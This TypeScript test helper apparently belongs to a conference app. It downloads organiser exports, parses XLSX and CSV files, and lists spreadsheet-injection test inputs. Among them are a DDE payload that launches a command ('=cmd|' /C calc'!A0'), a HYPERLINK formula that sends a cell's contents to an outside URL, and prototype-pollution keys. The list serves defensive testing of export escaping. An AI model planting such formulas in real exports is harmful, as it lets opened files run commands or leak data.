import { parse } from "csv-parse/sync";
import { readSheet } from "read-excel-file/node";
import type { Conference } from "../fixtures/conference.ts";

/** A row of an export, by the titles of its columns. Empty cells are null. */
export type Row = Record<string, string | number | Date | null>;

/** What spreadsheets execute, wherever they take a cell to begin. */
export const EXECUTED = /^[=+\-@\t\r＝＋－＠]/u;

/** Words that spreadsheets, and the programs that write for them, have got wrong. */
export const SPREADSHEET_ATTACKS = [
	...["=1+1 and so it asks", "+1+1 and so it asks", "-1+1 and so it asks", "@SUM(1+1)*cmd", "＝1+1 and so it asks"],
	...['=HYPERLINK("http://example.org?"&A1,"Click here")', "=cmd|' /C calc'!A0", '"=1+1" in quotation marks'],
	...["Words, then;=1+1;and more", 'Words";=1+1;"and more', "Words,=1+1,and more", 'Words; "=1+1'],
	...["constructor", "hasOwnProperty", "__proto__", "toLocaleString", "_x003D_1+1 is escaped", "_x000D__x005F_x0041_"],
];

/** Downloads an export. */
export function fetchExport(conference: Conference, file: string, cookie: string, language = "en"): Promise<Response> {
	return fetch(conference.url(`/organise/export/${file}`), { headers: { cookie, "accept-language": language } });
}

/** @returns the rows of a workbook. A date is its local time, as if it were UTC, to the second: a sheet stores fractions of days */
export async function readXlsx(file: Uint8Array): Promise<Row[]> {
	const [titles = [], ...rows] = await readSheet(Buffer.from(file), { trim: false });
	return rows.map((cells) => Object.fromEntries(titles.map((title, at) => [String(title), toCell(cells[at] ?? null)])));
}

function toCell(value: unknown): Row[string] {
	if (value instanceof Date) return new Date(Math.round(value.getTime() / 1_000) * 1_000);
	if (value === null || typeof value === "string" || typeof value === "number") return value;
	throw new Error(`A cell holds ${String(value)}.`);
}

/** @returns the cells of a CSV file, with those of its titles first. @param delimiter how a spreadsheet splits it, rightly or not */
export function readCsv(file: Uint8Array, delimiter: "," | ";"): string[][] {
	return parse(Buffer.from(file), { bom: true, delimiter, relax_quotes: true, relax_column_count: true });
}
